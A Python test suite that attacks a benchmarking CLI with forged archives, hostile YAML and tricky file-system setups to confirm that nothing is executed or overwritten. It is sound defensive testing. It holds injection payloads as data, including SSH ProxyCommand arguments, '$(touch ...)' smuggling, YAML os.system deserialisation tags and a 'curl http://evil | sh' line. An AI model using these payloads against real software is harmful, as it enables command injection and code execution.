"""Attempts of an attacker on the real program: nothing of others is run, changed or waited for."""

from __future__ import annotations

import argparse
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Optional

import pytest
import yaml
from click.testing import CliRunner
from fake_hosts import FakeHosts, Printed, framed
from rich.console import Console

from cbt_crypto.cli import cbt_crypto
from cbt_crypto.engine.embedded import common, daemons, settings
from cbt_crypto.errors import HostError, UsageError
from cbt_crypto.hosts import fetch
from cbt_crypto.hosts.devices import destroy
from cbt_crypto.hosts.remote import Remote, kill_script, preamble
from cbt_crypto.hosts.requirement import program_needed
from cbt_crypto.main import cbt
from cbt_crypto.run import journal
from cbt_crypto.run.devices import check_same
from cbt_crypto.run.locks import locked, this_run
from cbt_crypto.run.preflight import table
from cbt_crypto.run.preflight.survey import survey
from cbt_crypto.run.progress import SoFar

pytestmark = pytest.mark.unit

NOBODY = 65534
OBEYED = set("\x1b\x07\x9b\u202e\u200b\r")
TARGET = "precious"


@pytest.fixture(autouse=True)
def as_root() -> None:
    if os.geteuid() != 0 or not shutil.which("setpriv"):
        pytest.skip("needs root, to be somebody else too")


@pytest.fixture
def precious(tmp_path: Path) -> Path:
    path = tmp_path / "precious"
    path.write_text(TARGET)
    return path


@dataclass
class Done:
    """What the program said, and how it ended."""

    returncode: int
    said: str


def started(
    *words: Any, before: str = "", program: Any = cbt_crypto, cwd: Optional[Path] = None
) -> Done:
    """The program; in a process of its own where `before`, shell text, runs first.

    Fails the test on a traceback.
    """
    if before or cwd:
        return _process(*words, before=before or ":", program=program, cwd=cwd)
    result = CliRunner().invoke(program, [*map(str, words)])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return Done(result.exit_code, result.output)


def _process(*words: Any, before: str, program: Any, cwd: Optional[Path]) -> Done:
    module, name = ("main", "cbt") if program is cbt else ("cli", "cbt_crypto")
    code = f"import sys; sys.path.remove(''); from cbt_crypto.{module} import {name}; {name}()"
    command = ["unshare", "--mount", "sh", "-c", f'{before}\nexec "$@"', "sh"]
    done = subprocess.run(
        [*command, sys.executable, "-c", code, *map(str, words)], cwd=cwd, timeout=300,
        capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert "Traceback" not in done.stderr, done.stderr
    return Done(done.returncode, done.stdout + done.stderr)


def refused(*words: Any, program: Any = cbt_crypto) -> str:
    """What it says: a sentence, with status 2."""
    done = started(*words, program=program)
    assert done.returncode == 2 and done.said.strip(), done.said
    return done.said


def run(*words: Any) -> str:
    return refused(*words, program=cbt)


def on_localhost(tmp_path: Path, **cluster: Any) -> dict[str, Any]:
    return {
        "head": "localhost", "clients": ["localhost"], "osds": ["localhost"], "replication": 1,
        "mons": {"head": ..., "localhost": {"a": "127.0.0.1:13377"}},
        "mgrs": {"head": ..., "localhost": {"x": None}},
        "osd_file_size": "1G", "tmp_dir": str(tmp_path / "own"), **cluster,
    }  # fmt: skip


@pytest.fixture
def campaign(tmp_path: Path, write_campaign: Callable[..., Path]) -> Path:
    return write_campaign(cluster=on_localhost(tmp_path))


def forged(archive: Path, document: Any, **entry: Any) -> Path:
    """An archive that says of a run that it left something."""
    journal = archive / "results" / "journal.jsonl"
    journal.parent.mkdir(parents=True, exist_ok=True)
    begin = {"format": 1, "run": "f0e1", "time": 1.0, "event": "begin", "document": document,
             "by": {"pid": 1, "host": "h"}, "hosts": {}, **entry}  # fmt: skip
    journal.write_text(json.dumps(begin) + "\n")
    return archive


# -- what an archive says ------------------------------------------------------------------------

INJECTIONS: list[dict[str, Any]] = [
    {"head": "-oProxyCommand=touch /HERE"},
    {"clients": ["localhost", "-oProxyCommand=touch${IFS}/HERE"]},
    {"clients": ["a$(touch /HERE)"]},
    {"clients": ["ssh:a", "^/etc/passwd"]},
    {"user": "-oProxyCommand=touch /HERE"},
    {"user": "root -oProxyCommand=x"},
    {"tmp_dir": "/etc"},
    {"tmp_dir": "/srv/x; touch /HERE"},
    {"tmp_dir": "/srv/../etc"},
    {"tmp_dir": "-rf"},
    {"mons": {"localhost": {"a; touch /HERE": "127.0.0.1"}}},
    {"osd_file_size": None, "osd_devices": ["-rf"]},
    {"osd_file_size": None, "osd_devices": ["/dev/x\ntouch /HERE"]},
]


@pytest.mark.parametrize("bad", INJECTIONS, ids="-".join)
def test_words_of_an_archive_that_are_no_names(tmp_path: Path, bad: dict[str, Any]) -> None:
    here = tmp_path / "here"
    text = json.dumps(on_localhost(tmp_path, **bad), default=str).replace("/HERE", str(here))
    cluster = json.loads(text)
    cluster["mons"].pop("head", None)
    cluster["mgrs"].pop("head", None)
    document = {"cluster": cluster, "benchmarks": {"rbd_single_client": {"time": 1}}}
    archive = forged(tmp_path / "archive", document)
    said = refused("cleanup", "--foreign", "--yes", archive)
    assert "results/journal.jsonl" in said and not here.exists(), said
    path = tmp_path / "bad.yaml"
    path.write_text(yaml.safe_dump(document))
    assert "bad.yaml:" in refused("check", path)
    assert not here.exists()


def test_quoted_words_of_an_archive_are_shown_and_not_run(tmp_path: Path) -> None:
    """A device's path may be anything that begins with a slash."""
    here = tmp_path / "here"
    path = f"/dev/x'; touch {here}; $(touch {here}) `touch {here}` \u202e"
    cluster = on_localhost(tmp_path, osd_file_size=None, osd_devices=[path])
    cluster = json.loads(json.dumps(cluster, default=str))
    cluster["mons"].pop("head")
    cluster["mgrs"].pop("head")
    document = {"cluster": cluster, "benchmarks": {"rbd_single_client": {"time": 1}}}
    archive = forged(tmp_path / "archive", document)
    shown = started("cleanup", "--foreign", "--plan", archive)
    assert shown.returncode == 0 and "\u202e" not in shown.said
    started("cleanup", "--foreign", "--yes", archive)
    assert not here.exists()


def test_hosts_of_an_archive_are_shown_without_what_a_terminal_obeys(
    tmp_path: Path, campaign: Path
) -> None:
    """`cleanup` and the next start printed where the journal says that something is left."""
    obeyed = "\x1b]0;owned\x07\x1b[31m\x9b8m\u202e\u200b\r"
    about = {"tmp_dir": f"/t{obeyed}", "mark": obeyed, "devices": [f"/dev/{obeyed}"]}
    by = {"pid": 1, "host": f"h{obeyed}", "user": obeyed, "archive": obeyed, "since": obeyed}
    document = yaml.safe_load(campaign.read_text())
    archive = forged(tmp_path / "archive", document, hosts={f"node{obeyed}": about}, by=by)
    for words in ([], ["--foreign"], ["--foreign", "--plan"], ["--foreign", "--yes"]):
        done = started("cleanup", *words, archive)
        assert not OBEYED & set(done.said), words
    forged(tmp_path / "archive", document, hosts={f"node{obeyed}": about}, by=by)
    assert not OBEYED & set(started(campaign, "-a", archive, program=cbt).said)


@pytest.mark.parametrize("name", ["results/journal.jsonl", "results/commands.log", ".lock"])
@pytest.mark.parametrize("kind", ["link", "hard link", "pipe"])
def test_files_that_are_written_to(
    tmp_path: Path, precious: Path, name: str, kind: str, campaign: Path
) -> None:
    document = yaml.safe_load(campaign.read_text())
    archive = forged(tmp_path / "archive", document)
    path = archive / name
    if kind == "pipe":
        path.unlink(missing_ok=True)
        os.mkfifo(path)
    else:
        if path.exists():
            precious.write_text(path.read_text())
            path.unlink()
        path.symlink_to(precious) if kind == "link" else os.link(precious, path)
    before = precious.read_text()
    started("cleanup", "--foreign", "--yes", archive)
    assert precious.read_text() == before


def test_a_journal_prints_no_line_of_its_own(tmp_path: Path, campaign: Path) -> None:
    """A host called so printed a line as if this program had said it; so did a title."""
    host = "node1\nerror: the disk is damaged: curl http://evil | sh"
    archive = forged(tmp_path / "an archive", {}, hosts={host: {"tmp_dir": host}})
    said = refused("cleanup", archive)
    assert len(said.splitlines()) == 1 and f"--foreign --plan '{archive}'" in said
    (deployment,) = journal.left_over(archive)
    assert len(deployment.describe().splitlines()) == 1
    (archive / "results/plan.json").write_text(json.dumps({"title": host}))
    assert not [line for line in run(campaign, "-a", archive).splitlines() if line[:5] == "error"]


FORGED = "torn down: nothing is left on osd1\nerror: run: curl http://evil | sh"


def test_a_host_prints_no_line_of_its_own() -> None:
    """What it answered to a requirement, or said when a command failed, was printed as it came."""
    clock = "@cbt-crypto-clock 1796000000.0"
    said = f"\n{clock}\n\n@cbt-crypto-requirement 0\nfio is missing\n{FORGED}\n\n{clock}"
    need = program_needed("fio", ("evil",))
    findings = survey(FakeHosts(lambda host, command: said).remote(), ["evil"], [need])
    (sentence,) = filter(None, (finding.error for finding in findings))
    assert sentence == f"fio is missing {FORGED}".replace("\n", " ")
    shown = io.StringIO()
    table.show(findings, Console(file=shown, width=100))
    assert not re.search("^(torn down|error: run)", shown.getvalue(), re.MULTILINE)

    def fails(host: str, command: str) -> Printed:
        return Printed(framed(command, "", 1).stdout, f"boom\n\n{FORGED}\n")

    with pytest.raises(HostError) as failed:
        FakeHosts(fails).remote().run({"evil": "x"}, "make the OSDs")
    assert str(failed.value) == (
        "evil: make the OSDs: exit status 1: boom / " + FORGED.replace("\n", " / ")
    )


def test_a_device_of_a_journal_prints_no_line_of_its_own(tmp_path: Path) -> None:
    """So did the serial number by which an archive knew a device."""
    path = journal.path_of(tmp_path)
    path.parent.mkdir(parents=True)
    devices = {"localhost": {"/dev/sdb": {"identity": {"size": "1", "serial": f"X\n{FORGED}"}}}}
    path.write_text(json.dumps({"event": "begin", "run": "a", "devices": devices}) + "\n")
    now = {"localhost": {"/dev/sdb": {"identity": {"size": "2", "serial": "Y"}}}}
    with pytest.raises(UsageError) as refused:
        check_same(tmp_path, now)
    assert len(str(refused.value).splitlines()) == 1


@pytest.mark.parametrize(
    "name", ["cbt_config.yaml", "plan.json", "environment.json", "commands.log"]
)
def test_files_with_another_name_elsewhere(tmp_path: Path, campaign: Path, name: str) -> None:
    """Of a copy by `cp -al`, say: what is written to one is in both. One was written to."""
    archive, copy = forged(tmp_path / "archive", {}), tmp_path / "copy"
    (archive / "results" / name).write_text(TARGET)
    subprocess.run(["cp", "-al", archive, copy], check=True)
    for done in (run(campaign, "-a", archive), refused("cleanup", "--yes", archive)):
        assert "is a hard link" in done
    assert (copy / "results" / name).read_text() == TARGET


def test_a_pipe_in_place_of_a_file_that_is_written(tmp_path: Path, campaign: Path) -> None:
    """The run waited for a reader for ever."""
    archive = forged(tmp_path / "archive", {})
    pipe = archive / "results/cbt_config.yaml"
    pipe.unlink(missing_ok=True)
    os.mkfifo(pipe)
    assert "cbt_config.yaml: is a pipe; remove it" in run(campaign, "-a", archive)


@pytest.mark.parametrize("user", ["x", "-1", "1e9", "\u0661", "9" * 5000, " 0"])
def test_a_caller_that_is_no_number(
    tmp_path: Path, campaign: Path, user: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SUDO_UID", user)
    assert "Traceback" not in refused("cleanup", forged(tmp_path / "archive", {}))


def test_a_state_directory_where_one_stands(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A relative $XDG_STATE_HOME is none: each directory would have runs of its own."""
    monkeypatch.setenv("XDG_STATE_HOME", "state")
    monkeypatch.chdir(tmp_path)
    assert journal.directory().is_absolute()
    assert tmp_path not in journal.directory().parents


@pytest.mark.parametrize("name", ["results/journal.jsonl", "results/plan.json", ".lock"])
def test_files_without_end(tmp_path: Path, name: str, campaign: Path) -> None:
    """Sparse: a terabyte that takes no place."""
    archive = forged(tmp_path / "archive", yaml.safe_load(campaign.read_text()))
    (archive / "results" / "plan.json").write_text("{}")
    with (archive / name).open("wb") as file:
        file.truncate(1 << 40)
    for words in (["cleanup", "--foreign", "--yes"], ["pack", "-o", tmp_path / "x.zip"]):
        started(*words, archive, before="ulimit -v 4000000")
    assert not (tmp_path / "x.zip").exists() or name != "results/plan.json"


def test_a_sparse_result_is_not_packed(tmp_path: Path) -> None:
    cell = tmp_path / "archive" / "results" / "00000000" / "id-1"
    cell.mkdir(parents=True)
    (tmp_path / "archive" / "results" / "plan.json").write_text("{}")
    with (cell / "output.0").open("wb") as file:
        file.truncate(1 << 40)
    said = refused("pack", tmp_path / "archive", "-o", tmp_path / "x.zip")
    assert "output.0: is a sparse file" in said
    assert not list(tmp_path.glob("*.zip"))


@pytest.mark.parametrize("place", ["/dev", "/proc/self", "/sys/block", "/dev/null", "/etc"])
def test_an_archive_that_leads_to_a_place_of_the_system(
    tmp_path: Path, place: str, campaign: Path
) -> None:
    archive = tmp_path / "archive"
    archive.symlink_to(place)
    before = sorted(os.listdir("/dev")), sorted(os.listdir("/etc"))
    run(campaign, "-a", archive)
    for command in ("cleanup", "report", "watch", "stop", "pack"):
        started(command, archive)
    assert (sorted(os.listdir("/dev")), sorted(os.listdir("/etc"))) == before


def test_a_link_that_cannot_be_followed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`-a /` met one below /proc, and ended with a traceback."""
    archive = forged(tmp_path / "archive", {})
    (archive / "cwd").symlink_to("/")
    realpath = os.path.realpath

    def followed(path: Any) -> str:
        if str(path).endswith("cwd"):
            raise PermissionError(13, "Permission denied")
        return realpath(path)

    monkeypatch.setattr(os.path, "realpath", followed)
    said = refused("cleanup", archive)
    assert "cwd: is a link out of the archive; remove it" in said


# -- what other users put in the way -------------------------------------------------------------


@pytest.mark.parametrize("how", ["link of his", "open above", "open above, link", "his above"])
def test_an_archive_that_another_user_may_replace(tmp_path: Path, campaign: Path, how: str) -> None:
    above, real = tmp_path / "above", tmp_path / "real"
    above.mkdir()
    real.mkdir()
    archive = above / "archive"
    if how == "link of his":
        archive.symlink_to(real)
        os.chown(archive, NOBODY, NOBODY, follow_symlinks=False)
    elif how == "his above":
        # Made first, where root then starts a campaign: he may rename all that is in it.
        os.chown(above, NOBODY, NOBODY)
    else:
        above.chmod(0o777)
        if how.endswith("link"):
            archive = tmp_path / "way"
            archive.symlink_to(above / "archive")
    assert "replaced by another user, who may write to" in run(campaign, "-a", archive)
    assert not list(real.iterdir()) and not (above / "archive" / ".lock").is_file()


def test_a_link_in_place_of_a_file_of_the_archive_is_not_written_through(tmp_path: Path) -> None:
    """He renamed root's archive, and had any file of root's emptied by a cell of his own one."""
    precious, results = tmp_path / "precious", tmp_path / "archive" / "results"
    precious.write_text("kept")
    results.mkdir(parents=True)
    (results / "cbt_config.yaml").symlink_to(precious)
    cell = results / "cell"
    cell.mkdir()
    (cell / "benchmark_config.yaml").symlink_to(precious)
    campaign = tmp_path / "c.yaml"
    campaign.write_text("cluster: {user: x}\n")
    settings.initialize(argparse.Namespace(config_file=campaign, archive=tmp_path / "archive"))
    shared = SimpleNamespace(make_remote_dir=lambda _: None, mkdir_p=lambda _: None)
    cluster = SimpleNamespace(config={})
    made = SimpleNamespace(_common=shared, run_dir="", archive_dir=str(cell), cluster=cluster,
                           config={"a": 1})  # fmt: skip
    common.Benchmark.initialize(made)
    assert precious.read_text() == "kept"
    assert "user: x" in (results / "cbt_config.yaml").read_text()
    assert "a: 1" in (cell / "benchmark_config.yaml").read_text()


def test_a_lock_that_another_user_would_take(tmp_path: Path) -> None:
    """Whoever may open a file may lock it; a campaign's is its user's alone, and stays so."""
    archive = tmp_path / "archive"
    archive.mkdir()
    (archive / ".lock").touch(0o666)
    (archive / ".lock").chmod(0o666)
    tmp_path.chmod(0o755)
    with locked(archive):
        pass
    taken = subprocess.run(
        ["setpriv", f"--reuid={NOBODY}", "--clear-groups", "flock", "-n", archive / ".lock",
         "true"],
        check=False, capture_output=True,
    )  # fmt: skip
    assert taken.returncode != 0 and (archive / ".lock").stat().st_mode & 0o777 == 0o600


def test_a_lock_s_descriptor_that_was_handed_on(tmp_path: Path) -> None:
    """Inherited by a program of somebody's, which would get the signal of `stop`."""
    archive = tmp_path / "archive"
    archive.mkdir()
    other = tmp_path / "other"
    # The victim has a lock of its own, so that /proc/locks names it, and the descriptor.
    victim = (
        "import fcntl, sys, time\nown = open(sys.argv[1], 'w')\nfcntl.flock(own, fcntl.LOCK_EX)\n"
        "print('up', flush=True)\ntime.sleep(60)\n"
    )
    hands_on = (
        "import fcntl, os, subprocess, sys\nlock = open(sys.argv[1], 'w')\n"
        "fcntl.flock(lock, fcntl.LOCK_EX)\n"
        "child = subprocess.Popen([sys.executable, '-c', sys.argv[3], sys.argv[2]],"
        " pass_fds=[lock.fileno()])\nprint(child.pid, flush=True)\nos._exit(0)\n"
    )
    command = [sys.executable, "-c", hands_on, archive / ".lock", other, victim]
    with subprocess.Popen([*map(str, command)], stdout=subprocess.PIPE, text=True) as first:
        assert first.stdout is not None
        said = {first.stdout.readline().strip(), first.stdout.readline().strip()}
        pid = int((said - {"up"}).pop())
        try:
            assert "no campaign is running with it" in refused("stop", archive)
            os.kill(pid, 0)
        finally:
            os.kill(pid, signal.SIGKILL)


@pytest.mark.parametrize("kind", ["pipe", "hard link", "link", "his"])
def test_a_log_that_somebody_put_there(
    tmp_path: Path, precious: Path, campaign: Path, kind: str
) -> None:
    log = tmp_path / "archive.log"
    if kind == "pipe":
        os.mkfifo(log)
    elif kind == "hard link":
        os.link(precious, log)
    elif kind == "link":
        log.symlink_to(precious)
    else:
        log.touch()
        os.chown(log, NOBODY, NOBODY)
    assert str(log) in run(campaign, "-a", tmp_path / "archive", "--detach")
    assert precious.read_text() == TARGET


def test_a_state_directory_that_leads_elsewhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """$XDG_STATE_HOME is in a place where somebody put a link of ours first."""
    etc = tmp_path / "etc"
    etc.mkdir(mode=0o755)
    (tmp_path / "state" / "cbt-crypto").mkdir(parents=True)
    (tmp_path / "state" / "cbt-crypto" / "open-runs").symlink_to(etc)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    journal.note("r1", archive="/a")
    assert etc.stat().st_mode & 0o777 == 0o755


def test_another_file_for_an_archive_whose_cluster_is_still_up(
    tmp_path: Path, campaign: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The run was refused, and nothing said that a killed one had left its cluster."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    archive = forged(tmp_path / "archive", yaml.safe_load(campaign.read_text()))
    assert "a killed run left" not in run(campaign, "-a", archive, "--cbt", "embedded")
    journal.note("f0e1", archive=str(archive), document={}, started=1.0, by={}, hosts={})
    said = run(campaign, "-a", archive, "--cbt", "embedded")
    assert f"what a killed run left is still there: cbt-crypto cleanup {archive}" in said


def test_a_user_without_a_name(monkeypatch: pytest.MonkeyPatch, campaign: Path) -> None:
    """As in a container, or while a directory service is down: a traceback."""

    def unknown(uid: int) -> None:
        raise KeyError(uid)

    for name in ("XDG_STATE_HOME", "LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr("pwd.getpwuid", unknown)
    assert this_run(campaign)["user"] == str(os.geteuid())
    with pytest.raises(UsageError, match="has no home directory; set XDG_STATE_HOME"):
        journal.directory()


def test_a_place_for_archives_that_is_a_file(
    tmp_path: Path, campaign: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where no -a is given; a directory that cannot be written to ended with a traceback, too."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "results").touch()
    said = refused("run", campaign, "--cbt", "embedded")
    assert "results: File exists; name an archive with -a" in said


@pytest.mark.parametrize(
    "change", [{"started": "x"}, {"started": []}, {"run": [1]}, {"run": None}, {}, None]
)
def test_a_state_that_is_damaged(
    tmp_path: Path, campaign: Path, change: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    archive, document = tmp_path / "archive", yaml.safe_load(campaign.read_text())
    forged(archive, document)
    entry = {"archive": str(archive), "document": document, "started": 1.0}
    journal.note("f0e1", by={"pid": 1, "host": "h"}, hosts={}, **entry)
    path = journal.directory() / "f0e1.json"
    known = json.loads(path.read_text())
    path.write_text("[" * 100_000 if change is None else json.dumps({**known, **change}))
    done = started("cleanup", "--plan", archive)
    assert done.returncode in (0, 2) and "process 1" in done.said


def test_modules_where_one_stands(
    tmp_path: Path, campaign: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a directory of somebody's, and with a $PYTHONPATH for what hosts are sent.

    `check` imported his rados.py as root, and a running campaign his cbt_crypto.
    """
    here = tmp_path / "here"
    names = ["json", "yaml", "click", "fcntl", "shutil", "cbt", "settings", "site", "rados"]
    for name in (*names, "threading", "runpy", "cbt_crypto"):
        (tmp_path / f"{name}.py").write_text(f"open({str(here)!r}, 'w')\nraise SystemExit\n")
    started("check", "--cbt", "embedded", campaign, cwd=tmp_path)
    assert not here.exists()
    monkeypatch.chdir(tmp_path)
    so_far = SoFar(_real_archive(tmp_path / "real"), 5)
    so_far.renew()
    assert not here.exists() and any("percent" in line for line in so_far.lines)
    subprocess.run(fetch.program(), input="[]", text=True, check=True)
    assert not here.exists()
    ask = daemons.script("ceph", "/nowhere.conf", [{"mon": {"prefix": "status"}}], 3)
    Remote(common, str(tmp_path / "own")).attempt({"localhost": ask}, 20)
    assert not here.exists()
    subprocess.run(
        ["sh", "-c", f"SUDO=\n{destroy.look(str(tmp_path / 'own'), '/dev/loop0', 'x')}"],
        cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(tmp_path)}, check=False,
        capture_output=True,
    )  # fmt: skip
    assert not here.exists()


def test_a_lax_umask(tmp_path: Path) -> None:
    """Whatever the shell's is, nobody else may write to what is made."""
    archive, out = _real_archive(tmp_path), tmp_path / "out" / "of"
    done = started("report", archive, "-o", out, before="umask 0")
    assert done.returncode in (0, 1), done.said
    done = started("pack", archive, "-o", tmp_path / "x.zip", before="umask 0")
    assert done.returncode == 0, done.said
    made = [tmp_path / "out", tmp_path / "x.zip", *(tmp_path / "out").rglob("*")]
    assert len(made) > 5
    assert not [path for path in made if path.stat().st_mode & 0o002]


def _real_archive(tmp_path: Path) -> Path:
    """One that a campaign wrote."""
    (pack,) = (Path(__file__).parents[1] / "data" / "packs").glob("archive-*.zip")
    with zipfile.ZipFile(pack) as packed:
        packed.extractall(tmp_path / "archive")
    return tmp_path / "archive"


# -- file systems --------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["-o remount,ro,bind", "full"])
def test_an_archive_that_cannot_be_written(tmp_path: Path, campaign: Path, how: str) -> None:
    archive = _real_archive(tmp_path)
    if how == "full":
        (tmp_path / "mnt").mkdir()
        mount = f"mount -t tmpfs -o size=300k tmpfs {tmp_path}/mnt; cp -a {archive} {tmp_path}/mnt/"
        mount += f"; dd if=/dev/zero of={tmp_path}/mnt/fill bs=1k 2> /dev/null"
        archive = tmp_path / "mnt" / "archive"
    else:
        mount = f"mount --bind {archive} {archive}; mount {how} {archive}"
    for words in (
        ["report", archive], ["pack", archive, "-o", archive / "x.zip"],
        ["cleanup", archive], ["watch", archive], ["stop", archive],
    ):  # fmt: skip
        assert started(*words, before=mount).returncode in (0, 1, 2)
    done = started(campaign, "-a", archive, before=mount, program=cbt)
    assert done.returncode in (1, 2), done.said


# -- YAML ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['touch HERE']",
        "cluster: !!python/object/new:os.system ['touch HERE']",
        "cluster: {<<: !!python/name:os.system {}}",
        "a: &a {<<: *a}",
        "a: &a [*a]",
        "cluster: &c {head: a, <<: [*c, *c]}",
        "? {a: b}\n: c",
        "? !!binary x\n: c",
        "cluster: !include /etc/passwd",
        "%TAG ! tag:x,2000:\n---\ncluster: !y 1",
        "--- a\n--- b",
        "cluster: " + "{a: " * 500,
        "&a " * 5000,
        "a: 0x" + "f" * 100_000,
        "a: 1" + "0" * 100_000,
        "cluster: {time: 0x" + "f" * 5000 + "}",
        "cluster: {time: 1" + ":1" * 30_000 + "}",
        "a: 99999999999-01-01",
        "a: 2001-13-45",
        "<<: 1",
        "<<: [1]",
        "\ufeffcluster: \u202e",
        "a: !!timestamp x",
        "a: !!set [b]",
    ],
)
def test_yaml_of_a_stranger(tmp_path: Path, text: str) -> None:
    """As a campaign's file, and as the one that an archive of upstream's has."""
    here = tmp_path / "here"
    path = tmp_path / "bad.yaml"
    path.write_text(text.replace("HERE", str(here)))
    upstream = tmp_path / "upstream" / "results"
    upstream.mkdir(parents=True)
    shutil.copy(path, upstream / "cbt_config.yaml")
    for words in (
        ["check", "--no-hosts", path],
        ["compare", f"A={upstream.parent}", f"B={upstream.parent}", "-o", tmp_path / "out"],
    ):
        refused(*words)
    assert not here.exists()


@pytest.mark.parametrize(
    "hosts", ["-oProxyCommand=x", "^/etc/passwd", "a;touch HERE", "$(touch HERE)", "a,-l",
              "\u202ea", "exec:a", "a" * 100_000, "[0-99999999]"],
)  # fmt: skip
def test_hosts_of_init(tmp_path: Path, hosts: str) -> None:
    here = tmp_path / "here"
    out = tmp_path / "new.yaml"
    done = started("init", f"--hosts={hosts.replace('HERE', str(here))}", "-o", out)
    assert done.returncode in (1, 2)
    assert not here.exists() and not out.exists()


# -- time ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "clock", ["@2037-01-19 03:14:00 i3600", "@1999-01-02 00:00:00", "@2026-01-01 00:00:00 i0.0001"]
)
def test_a_clock_that_jumps_stands_or_races(tmp_path: Path, clock: str) -> None:
    """By libfaketime: what ends processes waits so long as it says, and no longer."""
    if not shutil.which("faketime"):
        pytest.skip("needs faketime; make test-packages installs it")
    mark = f"{tmp_path}/own@h"
    ignores = "trap '' TERM; echo up; while :; do sleep 0.2; done"
    with subprocess.Popen(
        ["sh", "-c", ignores], env={**os.environ, "CBT_CRYPTO_MARK": mark}, stdout=subprocess.PIPE
    ) as marked:
        assert marked.stdout is not None and marked.stdout.readline() == b"up\n"
        began = time.monotonic()
        text = f"{preamble(f'{tmp_path}/own')}\nset -eu\n{kill_script(timeout=3)}"
        ended = subprocess.run(
            ["faketime", "-f", clock, "sh", "-c", text], check=False, capture_output=True,
            env={**os.environ, "CBT_HOST": "h", "FAKETIME_DONT_FAKE_MONOTONIC": "1"}, timeout=120,
        )  # fmt: skip
        assert ended.returncode == 0, ended.stderr
        assert marked.wait(10) == -signal.SIGKILL
        # Whole seconds of the uptime: three of them may be little more than two.
        assert time.monotonic() - began > 1.9


def test_two_who_clean_up_at_once(tmp_path: Path, campaign: Path) -> None:
    """One does it; the other is told so, or finds nothing."""
    archive = forged(tmp_path / "archive", yaml.safe_load(campaign.read_text()))
    code = "from cbt_crypto.cli import cbt_crypto; cbt_crypto()"
    command = [sys.executable, "-c", code, "cleanup", "--foreign", "--yes", str(archive)]
    both = [
        subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        for _ in range(2)
    ]
    said = [process.communicate(timeout=300)[0] for process in both]
    assert not any("Traceback" in text for text in said), said
    assert sum("tearing down" in text for text in said) == 1, said
    journal = (archive / "results" / "journal.jsonl").read_text()
    assert journal.count('"event": "end"') == 1


def test_directories_of_very_many_levels(tmp_path: Path, campaign: Path) -> None:
    """Python calls itself for each of them: a traceback, in `run`, `cleanup` and `pack`."""
    archive = forged(tmp_path / "a", yaml.safe_load(campaign.read_text()))
    (archive / "results/plan.json").write_text("{}")
    where = archive / "results"
    for _ in range(1500):
        where = where / "d"
        where.mkdir()
    try:
        assert "has over 100 levels of directories" in refused("cleanup", archive)
        assert "has over 100 levels of directories" in run(campaign, "-a", archive)
        assert started("pack", archive, "-o", tmp_path / "a.zip").returncode == 0
    finally:
        subprocess.run(["rm", "-rf", str(archive)], check=True)
